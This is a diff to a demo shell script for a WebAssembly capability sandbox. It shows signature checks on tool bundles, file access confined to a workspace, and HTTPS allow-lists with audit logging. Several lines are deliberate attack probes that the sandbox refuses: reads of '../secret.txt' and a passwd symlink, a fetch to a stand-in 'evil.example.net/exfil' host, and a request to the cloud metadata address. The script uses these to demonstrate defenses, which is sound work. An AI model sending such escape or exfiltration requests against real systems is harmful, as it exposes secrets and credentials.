@@ -25,4 +25,64 @@ echo
 echo "host view after the run:"
 echo "  $demo/ws/report.txt: $(cat "$demo/ws/report.txt" 2>/dev/null || echo '(missing)')"
 echo "  $demo/secret.txt unchanged: $(cat "$demo/secret.txt")"
-exit $status
+[ "$status" -eq 0 ] || exit $status
+
+# --- 2. An agent's toolbox: the signed core-utils bundle, installed and run by name ------------
+# A private registry and trust store for the demo (normally ~/.local/share/wasmcap). The bundle
+# was signed at build time with a TEST key; the operator trusts it by copying its public half.
+export WASMCAP_HOME="$demo/home"
+mkdir -p "$WASMCAP_HOME/trust"
+cp build/bundles/wasmcap-test.pub "$WASMCAP_HOME/trust/"
+W=./build/bin/wasmcap
+show() { echo; echo "\$ wasmcap ${*@Q}" | sed "s|$demo|\$DEMO|g"; set +e; "$W" "$@"; echo "  (exit $?)"; set -e; }
+
+echo
+echo "== 2. install the signed core-utils bundle, run its tools in the workspace =="
+cp build/bundles/coreutils.wcb "$demo/tampered.wcb"
+# Flip one byte near the end (inside the module): the bundle no longer matches its signature.
+size=$(stat -c %s "$demo/tampered.wcb")
+printf '\x00' | dd of="$demo/tampered.wcb" bs=1 seek=$((size - 100)) conv=notrunc status=none
+show bundle install "$demo/tampered.wcb"
+show bundle install build/bundles/coreutils.wcb
+show bundle list
+printf 'TODO: ship it\nDONE: tests\nTODO: docs\n' > "$demo/ws/tasks.txt"
+show run --dir "$demo/ws::/work" coreutils ls -l
+show run --dir "$demo/ws::/work" coreutils grep -n TODO tasks.txt
+show run --dir "$demo/ws::/work" coreutils wc -l tasks.txt notes.txt
+show run --dir "$demo/ws::/work" coreutils cat ../secret.txt
+show run --dir "$demo/ws::/work" coreutils cat escape-link/passwd
+show run coreutils ls
+
+# --- 3. The network: only through the https host API, only where granted -----------------------
+# Every request below is refused by policy before any DNS lookup or connection, and each refusal
+# is an audit event. (No traffic leaves this machine.)
+echo
+echo "== 3. outbound HTTPS through the policy (grants, https only, public addresses) =="
+echo "s3cr3t-demo-token" > "$demo/token"
+cp build/guest/fetch.wasm "$demo/fetch.wasm"
+cat > "$demo/fetch.json" <<JSON
+{ "name": "fetch", "version": "0.1.0", "module": "fetch.wasm",
+  "permissions": { "args": true, "host_api": { "https": {
+    "allow": [ { "host": "api.example.com", "methods": ["GET"], "path_prefix": "/v1/" },
+               { "host": "metadata.internal", "methods": ["GET"] } ],
+    "secrets": ["tok"] } } } }
+JSON
+cat > "$demo/host.json" <<JSON
+{ "plugins": { "fetch": { "grants": { "host_api": { "https": {
+    "allow": [ { "host": "api.example.com", "methods": ["GET"], "path_prefix": "/v1/" },
+               { "host": "metadata.internal", "methods": ["GET"] } ],
+    "secrets": { "tok": { "file": "$demo/token", "hosts": ["api.example.com"] } } } } } } },
+  "network": { "resolve": { "metadata.internal": "169.254.169.254" } },
+  "audit": { "file": "$demo/audit.jsonl" } }
+JSON
+fetch() { show run --manifest "$demo/fetch.json" --config "$demo/host.json" "$demo/fetch.wasm" "$@"; }
+fetch https://evil.example.net/exfil            # host not granted
+fetch -X POST https://api.example.com/v1/items  # method not granted
+fetch https://api.example.com/admin             # outside the path prefix
+fetch http://api.example.com/v1/items           # not https
+fetch https://metadata.internal/latest/         # granted name, link-local address
+fetch -H 'Authorization: secret:tok' https://metadata.internal/  # secret bound to another host
+echo
+echo "audit log ($demo/audit.jsonl): $(wc -l < "$demo/audit.jsonl") events, e.g."
+head -n 1 "$demo/audit.jsonl"
+echo "the secret's value appears in the audit log $(grep -c s3cr3t-demo-token "$demo/audit.jsonl" || true) times"
